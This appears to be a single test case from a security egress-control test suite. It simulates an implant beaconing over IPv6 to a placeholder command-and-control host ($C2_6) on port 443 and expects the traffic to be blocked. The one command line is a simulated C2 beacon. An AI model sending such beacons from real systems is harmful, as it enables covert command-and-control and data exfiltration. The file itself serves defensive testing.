# category: suspicious-network
# technique: T1071.001
# art: no
# expect: egress-not-allowed
# net: yes
# desc: an implant beacons over IPv6 to port 443 of a host outside the allowlist
timeout 5 exr-net connect -s 'POST /beacon' "$C2_6" 443 || true
